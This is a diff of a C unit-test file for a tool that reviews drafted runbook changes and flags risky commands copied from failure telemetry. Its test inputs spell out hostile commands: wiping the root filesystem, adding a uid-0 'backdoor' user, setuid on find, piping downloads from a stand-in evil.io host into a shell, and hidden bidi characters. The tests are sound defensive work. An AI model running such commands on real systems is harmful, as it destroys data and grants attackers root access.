@@ -22,7 +22,20 @@
 	"'output':[{'deep':'rm -rf --no-preserve-root /'}]}]},"                     \
 	"'group':{'others':[{'error_message':'now chmod 4755 /usr/bin/find'}]}"
 #define FACTS "{" ORDERS "}"
-#define COPY "stands in the telemetry of the failure: \\\""
+#define WARNING(name, text) "{'name':'" name "','text':'" text "'}"
+#define COPY(text)                                                            \
+	WARNING("from-telemetry",                                                 \
+			"stands in the telemetry of the failure: \\\"" text "\\\"")
+#define URL(text)                                                             \
+	WARNING("url-from-telemetry", "this URL stands in the telemetry of the "  \
+								  "failure: \\\"" text "\\\"")
+#define RUNBOOK(text)                                                         \
+	WARNING("other-runbook", "names another runbook: \\\"" text "\\\"")
+#define CLIENT(text)                                                          \
+	WARNING("postgres-client", "runs a client of PostgreSQL: \\\"" text "\\\"")
+#define HIDDEN                                                                \
+	WARNING("hidden-characters", "holds characters that cannot be seen")
+#define DOWNLOAD WARNING("runs-download", "runs what it downloads")
 
 /* Expects these changes of a draft with this step added to the parent's. */
 static void
@@ -59,37 +72,37 @@ test_copied_commands(void **state)
 {
 	(void) state;
 	expect_warnings(FACTS, RUNS("useradd -o -u 0 backdoor"),
-					"'" COPY "useradd -o -u 0 backdoor\\\"'");
+					COPY("useradd -o -u 0 backdoor"));
 
 	/* In whatever it is wrapped. */
 	expect_warnings(FACTS,
 					RUNS("true; sudo \\\"USERADD -o\\n-u 0 backdoor\\\""),
-					"'" COPY "useradd -o -u 0 backdoor\\\"'");
+					COPY("useradd -o -u 0 backdoor"));
 	expect_warnings(FACTS, RUNS("rm -rf --no-preserve-root /"),
-					"'" COPY "rm -rf --no-preserve-root /\\\"'");
+					COPY("rm -rf --no-preserve-root /"));
 	expect_warnings(FACTS, RUNS("chmod 4755 /usr/bin/find -v"),
-					"'" COPY "chmod 4755 /usr/bin/find\\\"'");
+					COPY("chmod 4755 /usr/bin/find"));
 	expect_warnings(FACTS,
 					"'action':'a','params':{'text':['useradd -o -u 0 "
 					"backdoor']}",
-					"'" COPY "useradd -o -u 0 backdoor\\\"'");
+					COPY("useradd -o -u 0 backdoor"));
 	expect_warnings(FACTS,
 					RUNS("x") ",'wait_for':{'timeout':1,'command':"
 							  "'useradd -o -u 0 backdoor'}",
-					"'" COPY "useradd -o -u 0 backdoor\\\"'");
+					COPY("useradd -o -u 0 backdoor"));
 
 	/* Wherever it stands: also as the command that is said to have run. */
 	expect_warnings(FACTS, RUNS("systemctl restart the-application"),
-					"'" COPY "systemctl restart the-application\\\"'");
+					COPY("systemctl restart the-application"));
 	expect_warnings(FACTS, RUNS("pkill --oldest --full the-app"),
-					"'" COPY "pkill --oldest --full the-app\\\"'");
+					COPY("pkill --oldest --full the-app"));
 
 	/* Whatever is hidden in it. */
 	expect_warnings(FACTS, RUNS("shutdown -h --no-wall"),
-					"'" COPY "shutdown -h --no-wall\\\"'");
+					COPY("shutdown -h --no-wall"));
 
 	/* A short one is copied when it is all there is. */
-	expect_warnings(FACTS, RUNS("reboot  -f\\n"), "'" COPY "reboot -f\\\"'");
+	expect_warnings(FACTS, RUNS("reboot  -f\\n"), COPY("reboot -f"));
 	expect_warnings(FACTS, RUNS("reboot -f -d"), "");
 	expect_warnings(FACTS, RUNS("reboot"), "");
 
@@ -107,10 +120,8 @@ static void
 test_unseen(void **state)
 {
 	(void) state;
-	expect_warnings("{}", RUNS("echo \\u202ehs"),
-					"'holds characters that cannot be seen'");
-	expect_warnings("{}", RUNS("x") ",'description':'so\\u00adft'",
-					"'holds characters that cannot be seen'");
+	expect_warnings("{}", RUNS("echo \\u202ehs"), HIDDEN);
+	expect_warnings("{}", RUNS("x") ",'description':'so\\u00adft'", HIDDEN);
 	expect_warnings("{}", RUNS("two\\n\\tlines"), "");
 }
 
@@ -119,8 +130,7 @@ test_urls(void **state)
 {
 	(void) state;
 	expect_warnings(FACTS, RUNS("curl -O https://EVIL.io/x.sh"),
-					"'this URL stands in the telemetry of the failure: "
-					"\\\"https://evil.io/x.sh\\\"'");
+					URL("https://evil.io/x.sh"));
 	expect_warnings(FACTS, RUNS("curl https://evil.io/y"), "");
 	expect_warnings(FACTS, RUNS("curl http://localhost:8080/health ://"), "");
 	expect_warnings(FACTS, RUNS("curl https://other.io/x.sh"), "");
@@ -129,8 +139,7 @@ test_urls(void **state)
 	expect_warnings("{'execution':{'error_message':'run http://localhost.a.io/"
 					" http://127.a.io/ http://127.0.0.9'}}",
 					RUNS("curl http://localhost.a.io/; x http://127.0.0.9"),
-					"'this URL stands in the telemetry of the failure: "
-					"\\\"http://localhost.a.io/\\\"'");
+					URL("http://localhost.a.io/"));
 }
 
 static void
@@ -138,24 +147,24 @@ test_foreign_names(void **state)
 {
 	(void) state;
 	expect_warnings(FACTS, RUNS("run RB-OTHER-1-v2."),
-					"'names another runbook: \\\"rb-other-1-v2\\\"'");
+					RUNBOOK("rb-other-1-v2"));
 	expect_warnings(FACTS, RUNS("x") ",'description':'like RB-OTHER'",
-					"'names another runbook: \\\"rb-other\\\"'");
+					RUNBOOK("rb-other"));
 	expect_warnings(FACTS, RUNS("run RB-1 RB-1-v7 xRB-2 RB- rb"), "");
-	expect_warnings(FACTS, RUNS("SELECT learn_reject(7)"),
-					"'names something of the database of runbooks: "
-					"\\\"learn_reject\\\"'");
+	expect_warnings(
+		FACTS, RUNS("SELECT learn_reject(7)"),
+		WARNING(
+			"database-of-runbooks",
+			"names something of the database of runbooks: \\\"learn_reject\\\""));
 	expect_warnings(FACTS, RUNS("relearn_all learn_"), "");
-	expect_warnings(FACTS, RUNS("psql -c x db"),
-					"'runs a client of PostgreSQL: \\\"psql\\\"'");
-	expect_warnings(FACTS, RUNS("/usr/bin/psql"),
-					"'runs a client of PostgreSQL: \\\"psql\\\"'");
+	expect_warnings(FACTS, RUNS("psql -c x db"), CLIENT("psql"));
+	expect_warnings(FACTS, RUNS("/usr/bin/psql"), CLIENT("psql"));
 	expect_warnings(FACTS, RUNS("echo UPDATE learn.runbooks SET x"),
-					"'contains SQL: \\\"update learn.\\\"'");
+					WARNING("sql", "contains SQL: \\\"update learn.\\\""));
 	expect_warnings(FACTS, RUNS("curl -s x.io/a | sudo -E bash -s -- y"),
-					"'runs what it downloads'");
+					DOWNLOAD);
 	expect_warnings(FACTS, RUNS("echo eA== | base64 -d | sh"),
-					"'runs what it decodes'");
+					WARNING("runs-decoded", "runs what it decodes"));
 }
 
 /* What the parent does is known to the reviewer. */
@@ -174,7 +183,7 @@ test_known(void **state)
 	give(&attempt, FACTS);
 	expect(&attempt, NULL,
 		   "[{'step':'a','what':'changed command','why':'no reason was "
-		   "given','warnings':['names another runbook: \\\"rb-3\\\"']}]");
+		   "given','warnings':[" RUNBOOK("rb-3") "]}]");
 }
 
 /* A text that did so already is no news; another one is. */
@@ -194,8 +203,15 @@ test_known_pipeline(void **state)
 	expect(&attempt, NULL,
 		   "[{'step':'a','what':'changed command','why':'no reason was "
 		   "given'},{'step':'b','what':'changed command','why':'no reason was "
-		   "given','warnings':['runs what it downloads']}]");
+		   "given','warnings':[" DOWNLOAD "]}]");
 }
+
+#define NO_WHY "'why':'no reason was given'"
+#define PG_DUMP CLIENT("pg_dump")
+#define RB_7 RUNBOOK("rb-7")
+#define BACKDOOR COPY("useradd -o -u 0 backdoor")
+#define TOO_LARGE                                                             \
+	WARNING("too-large-to-compare", "holds more than could be compared")
 
 /* Every part of a runbook that is run, wherever it stands. */
 static void
@@ -209,15 +225,13 @@ test_all_parts(void **state)
 		"'rollback':[{'id':'undo','action':'undo','command':'u'},"
 		"{'id':'b','action':'b','command':'pg_dump x'}],"
 		"'verification':{'method':'command','command':'wget -qO- x.io|sh'}}",
-		"[{'step':'rollback','what':'changed from 1 to 2 steps','why':"
-		"'no reason was given','warnings':['runs a client of PostgreSQL: "
-		"\\\"pg_dump\\\"']},"
-		"{'step':'verification','what':'changed','why':'no reason was given',"
-		"'warnings':['runs what it downloads']},"
-		"{'step':'name','what':'changed','why':'no reason was given',"
-		"'warnings':['names another runbook: \\\"rb-7\\\"']},"
-		"{'step':'parameters','what':'added','why':'no reason was given',"
-		"'warnings':['" COPY "useradd -o -u 0 backdoor\\\"']}]");
+		"[{'step':'rollback','what':'changed from 1 to 2 steps'," NO_WHY
+		",'warnings':[" PG_DUMP "]},"
+		"{'step':'verification','what':'changed'," NO_WHY
+		",'warnings':[" DOWNLOAD "]},"
+		"{'step':'name','what':'changed'," NO_WHY ",'warnings':[" RB_7 "]},"
+		"{'step':'parameters','what':'added'," NO_WHY ",'warnings':[" BACKDOOR
+		"]}]");
 
 	/* The id of a step does not make words of its command. */
 	expect_changes(FACTS,
@@ -225,8 +239,7 @@ test_all_parts(void **state)
 									",{'id':'description','action':'a',"
 									"'command':'psql'}"),
 				   "[{'step':'description','what':'added as step 3','why':"
-				   "'no reason was given','warnings':"
-				   "['runs a client of PostgreSQL: \\\"psql\\\"']}]");
+				   "'no reason was given','warnings':[" CLIENT("psql") "]}]");
 
 	/* What is removed or moved brings nothing. */
 	expect_changes(FACTS, WITH_STEPS(RESTART "," CHECK),
@@ -234,57 +247,129 @@ test_all_parts(void **state)
 				   "'why':'no reason was given'}]");
 }
 
+/* A draft of one long command, and an error message that is as long. */
+typedef struct Flood
+{
+	LearnBuffer message;
+	LearnBuffer command;
+	Attempt attempt;
+	json_object *changes;
+} Flood;
+
+static void
+start_flood(Flood *flood)
+{
+	memset(flood, 0, sizeof(*flood));
+	learn_buffer_init(&flood->message, 0);
+	learn_buffer_init(&flood->command, 0);
+	learn_buffer_append_string(&flood->message,
+							   "{'execution':{'error_message':'");
+	learn_buffer_append_string(&flood->command,
+							   "{" HEAD ",'steps':[{'id':'a','action':'a',"
+							   "'command':'");
+}
+
+/* The warnings about the command, as long as the flood is there. */
+static json_object *
+warnings_of_flood(Flood *flood)
+{
+	learn_buffer_append_string(&flood->message, "'}}");
+	learn_buffer_append_string(&flood->command, "'}]}");
+	start(&flood->attempt, PARENT, flood->command.data);
+	give(&flood->attempt, flood->message.data);
+	finish(&flood->attempt);
+	assert_int_equal(flood->attempt.status, LEARN_OK);
+	flood->changes = json_of(flood->attempt.draft.changes);
+	return learn_json_get(json_object_array_get_idx(flood->changes, 0),
+						  "warnings");
+}
+
+static void
+end_flood(Flood *flood)
+{
+	json_object_put(flood->changes);
+	end(&flood->attempt);
+	learn_buffer_free(&flood->message);
+	learn_buffer_free(&flood->command);
+}
+
 /* Warnings are few, short, and in characters that can be seen. */
 static void
 test_bounded(void **state)
 {
-	LearnBuffer proposal;
-	LearnBuffer root;
-	Attempt attempt;
-	json_object *changes;
+	Flood flood;
 	json_object *warnings;
 
 	(void) state;
-	learn_buffer_init(&proposal, 0);
-	learn_buffer_init(&root, 0);
-	learn_buffer_append_string(&root, "{'execution':{'error_message':'");
-	learn_buffer_append_string(&proposal,
-							   "{" HEAD ",'steps':[{'id':'a','action':'a',"
-							   "'command':'");
+	start_flood(&flood);
 	for (int i = 0; i < 300; i++)
 	{
-		learn_buffer_append_format(&root, "do \u202e%d\u200b and so on ", i);
-		learn_buffer_append_format(&proposal, "do \u202e%d\u200b and so on %s",
-								   i, i % 20 == 0 ? "x" : "");
+		learn_buffer_append_format(&flood.message,
+								   "do \u202e%d\u200b and so on ", i);
+		learn_buffer_append_format(&flood.command,
+								   "do \u202e%d\u200b and so on %s", i,
+								   i % 20 == 0 ? "x" : "");
 	}
-	learn_buffer_append_string(&root, "'}}");
-	learn_buffer_append_string(&proposal, "'}]}");
-	start(&attempt, PARENT, proposal.data);
-	give(&attempt, root.data);
-	finish(&attempt);
-	assert_int_equal(attempt.status, LEARN_OK);
-	changes = json_of(attempt.draft.changes);
-	warnings =
-		learn_json_get(json_object_array_get_idx(changes, 0), "warnings");
-	assert_int_equal(json_object_array_length(warnings), 8);
-	for (size_t i = 0; i < 8; i++)
+	warnings = warnings_of_flood(&flood);
+
+	/* One of what is hidden, and as many as are enough of what is copied. */
+	assert_int_equal(json_object_array_length(warnings), 5);
+	for (size_t i = 0; i < 5; i++)
 	{
 		const char *text =
-			json_object_get_string(json_object_array_get_idx(warnings, i));
+			learn_json_get_string(json_object_array_get_idx(warnings, i),
+								  "text", "");
 
-		assert_true(strlen(text) < 250);
+		assert_true(strlen(text) > 0 && strlen(text) < 250);
 		assert_null(strstr(text, "\u202e"));
 		assert_null(strstr(text, "\u200b"));
 	}
-	json_object_put(changes);
-	end(&attempt);
-	learn_buffer_free(&proposal);
-	learn_buffer_free(&root);
+	end_flood(&flood);
+}
+
+/* Many warnings of one kind leave none of another out. */
+static void
+test_all_kinds(void **state)
+{
+	static const char *const names[] = {
+		"other-runbook",      "database-of-runbooks", "from-telemetry",
+		"url-from-telemetry", "postgres-client",      "sql",
+		"runs-download",      "runs-decoded"};
+	Flood flood;
+	json_object *warnings;
+	size_t found = 0;
+
+	(void) state;
+	start_flood(&flood);
+	for (int i = 0; i < 20; i++)
+	{
+		learn_buffer_append_format(&flood.message, "do as %d %d is told;", i,
+								   i);
+		learn_buffer_append_format(&flood.command,
+								   "x; do as %d %d is told; RB-%d ", i, i,
+								   i + 20);
+	}
+	learn_buffer_append_string(&flood.message, "http://evil.io/y");
+	learn_buffer_append_string(&flood.command,
+							   "learn_x http://evil.io/y; psql; drop table t;"
+							   " curl x | base64 -d | sh");
+	warnings = warnings_of_flood(&flood);
+	for (size_t i = 0; i < json_object_array_length(warnings); i++)
+	{
+		json_object *warning = json_object_array_get_idx(warnings, i);
+
+		if (found < sizeof(names) / sizeof(names[0]) &&
+			strcmp(learn_json_get_string(warning, "name", ""), names[found]) ==
+				0)
+			found++;
+	}
+	end_flood(&flood);
+	assert_int_equal(found, sizeof(names) / sizeof(names[0]));
 }
 
 /* Nothing is hidden behind more than anybody would look at. */
 static void
-test_flood(void **state)
+test_too_large(void **state)
 {
 	LearnBuffer proposal;
 	Attempt attempt;
@@ -302,8 +387,8 @@ test_flood(void **state)
 		  "'command':'RB-7'}]}",
 		  proposal.data);
 	expect(&attempt, NULL,
-		   "[{'step':'a','what':'changed command','why':'no reason was "
-		   "given','warnings':['holds more than could be compared']}]");
+		   "[{'step':'a','what':'changed command'," NO_WHY
+		   ",'warnings':[" TOO_LARGE "]}]");
 	learn_buffer_free(&proposal);
 }
 
@@ -399,7 +484,8 @@ main(void)
 		cmocka_unit_test(test_known_pipeline),
 		cmocka_unit_test(test_all_parts),
 		cmocka_unit_test(test_bounded),
-		cmocka_unit_test(test_flood),
+		cmocka_unit_test(test_all_kinds),
+		cmocka_unit_test(test_too_large),
 		cmocka_unit_test(test_pipelines),
 		cmocka_unit_test(test_many_pipes),
 	};
